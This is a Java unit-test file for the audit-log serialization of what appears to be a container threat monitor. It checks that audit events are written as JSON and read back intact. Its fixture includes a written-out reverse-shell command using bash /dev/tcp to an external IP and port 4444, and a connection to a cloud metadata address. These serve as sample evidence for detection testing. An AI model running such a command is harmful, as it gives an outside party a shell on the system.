package coi.monitor;

import static org.assertj.core.api.Assertions.assertThat;

import coi.incus.Json;
import java.nio.charset.StandardCharsets;
import java.time.OffsetDateTime;
import java.util.List;
import org.junit.jupiter.api.Test;

class AuditLineTest {
    private static final OffsetDateTime WHEN = OffsetDateTime.parse("2026-12-05T03:04:05.123+01:00");
    private static final Evidence.ProcessInfo SHELL = new Evidence.ProcessInfo(4242, 1, 1000, "/usr/bin/bash",
            List.of("bash", "-c", "exec 5<>/dev/tcp/198.51.100.7/4444; cat <&5 | \"q\" \\ \u00e9\u2603\n\t"));

    @Test
    void writesTheBytesTheObjectMapperWrote() {
        List<Evidence> evidence = List.of(Evidence.none(),
                new Evidence(SHELL, null, null),
                new Evidence(SHELL, new Evidence.NetworkInfo("10.0.0.2:40000", "198.51.100.7:4444", 4444, "tcp"), null),
                new Evidence(null, new Evidence.NetworkInfo(null, "169.254.169.254:80", 80, "tcp"), null),
                new Evidence(new Evidence.ProcessInfo(7, 0, 0, null, List.of()), null, new Evidence.FilesystemInfo(123456789012L, "10s")),
                new Evidence(null, null, new Evidence.FilesystemInfo(0, null)));
        for (Evidence e : evidence) {
            for (Action action : Action.values()) {
                AuditEvent event = AuditEvent.of("coi-1a2b3c4d-1", new Threat(Level.HIGH, Threat.NETWORK, "title \"x\"", "why", e), action, WHEN);
                assertThat(new String(AuditLine.of(event), StandardCharsets.UTF_8)).isEqualTo(new String(Json.bytes(event), StandardCharsets.UTF_8));
            }
        }
        AuditEvent nulls = new AuditEvent(null, null, "c", null, null, null, null, null, null);
        assertThat(new String(AuditLine.of(nulls), StandardCharsets.UTF_8)).isEqualTo(new String(Json.bytes(nulls), StandardCharsets.UTF_8));
    }

    @Test
    void writesEveryComponentOfTheRecords() throws Exception {
        Evidence all = new Evidence(SHELL, new Evidence.NetworkInfo("10.0.0.2:40000", "198.51.100.7:4444", 4444, "tcp"),
                new Evidence.FilesystemInfo(1, "10s"));
        var line = Json.MAPPER.readTree(AuditLine.of(AuditEvent.of("c", new Threat(Level.HIGH, Threat.NETWORK, "t", "d", all), Action.PAUSED, WHEN)));
        assertThat(line.size()).as("a component added to AuditEvent is written by AuditLine too").isEqualTo(AuditEvent.class.getRecordComponents().length);
        var evidence = line.get("evidence");
        assertThat(evidence.size()).isEqualTo(Evidence.class.getRecordComponents().length);
        assertThat(evidence.get("process").size()).isEqualTo(Evidence.ProcessInfo.class.getRecordComponents().length);
        assertThat(evidence.get("network").size()).isEqualTo(Evidence.NetworkInfo.class.getRecordComponents().length);
        assertThat(evidence.get("filesystem").size()).isEqualTo(Evidence.FilesystemInfo.class.getRecordComponents().length);
    }

    @Test
    void readsBackAsTheEventItWas() {
        AuditEvent event = AuditEvent.of("coi-1a2b3c4d-1", new Threat(Level.CRITICAL, Threat.REVERSE_SHELL, "reverse shell", "d",
                new Evidence(SHELL, null, null)), Action.KILLED, WHEN);
        assertThat(AuditLog.parse(new String(AuditLine.of(event), StandardCharsets.UTF_8))).contains(event);
    }
}
